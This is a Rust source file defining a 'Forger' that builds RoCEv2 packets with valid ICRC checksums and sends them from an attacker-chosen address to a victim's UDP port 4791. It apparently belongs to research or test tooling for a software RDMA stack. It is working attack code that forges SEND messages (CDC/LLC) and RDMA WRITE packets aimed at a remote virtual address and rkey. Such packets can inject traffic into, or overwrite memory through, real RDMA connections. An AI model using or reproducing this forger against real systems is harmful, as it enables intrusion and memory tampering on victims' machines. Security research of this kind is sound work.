//! Forged RoCEv2 packets: built with the software RNIC's own codec and a valid ICRC,
//! sent from a plain UDP socket on an address of the attacker's choosing to the victim's
//! UDP port 4791.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};

use smc_softroce::icrc::{self, IpInfo, IPV4_DF};
use smc_softroce::wire::{pad_for, BthRepr, Opcode, PacketRepr, RethRepr};

/// RoCEv2 UDP port.
pub const ROCE_PORT: u16 = 4791;

pub struct Forger {
    sock: UdpSocket,
    me: Ipv4Addr,
}

impl Forger {
    /// A forger sending from `me` (any free port; RoCEv2 source ports are entropy).
    pub fn new(me: IpAddr) -> Forger {
        let IpAddr::V4(v4) = me else {
            panic!("IPv4 only")
        };
        let sock = UdpSocket::bind(SocketAddr::new(me, 0)).expect("forger socket");
        Forger { sock, me: v4 }
    }

    /// A request packet header to `dest_qp` with `psn`.
    pub fn req(opcode: Opcode, dest_qp: u32, psn: u32) -> PacketRepr {
        PacketRepr {
            bth: BthRepr {
                opcode,
                se: false,
                mig_req: false,
                pad_count: 0,
                pkey: 0xffff,
                resv8a: 0,
                dest_qp,
                ack_req: true,
                resv7: 0,
                psn,
            },
            reth: None,
            aeth: None,
            imm: None,
            atomic: None,
            atomic_ack: None,
        }
    }

    /// Sends one packet with a correct ICRC for our source address and port.
    pub fn send(&self, to: Ipv4Addr, mut repr: PacketRepr, payload: &[u8]) {
        repr.bth.pad_count = pad_for(payload.len()) as u8;
        let mut b = vec![0u8; repr.buffer_len(payload.len())];
        let off = repr.emit(&mut b).expect("packet encodes");
        b[off..off + payload.len()].copy_from_slice(payload);
        let sport = self.sock.local_addr().map(|a| a.port()).unwrap_or(0);
        let ip = IpInfo::V4 {
            src: self.me,
            dst: to,
            id: 0,
            flags_frag: IPV4_DF,
        };
        icrc::fill(&ip, sport, ROCE_PORT, &mut b);
        let _ = self
            .sock
            .send_to(&b, SocketAddr::new(IpAddr::V4(to), ROCE_PORT));
    }

    /// A SEND (one packet) carrying `payload` — a CDC or an LLC message.
    pub fn send_only(&self, to: Ipv4Addr, dest_qp: u32, psn: u32, payload: &[u8]) {
        self.send(to, Self::req(Opcode::SendOnly, dest_qp, psn), payload);
    }

    /// An RDMA WRITE (one packet).
    pub fn write_only(
        &self,
        to: Ipv4Addr,
        dest_qp: u32,
        psn: u32,
        va: u64,
        rkey: u32,
        data: &[u8],
    ) {
        let mut r = Self::req(Opcode::WriteOnly, dest_qp, psn);
        r.reth = Some(RethRepr {
            va,
            rkey,
            dma_len: data.len() as u32,
        });
        self.send(to, r, data);
    }
}
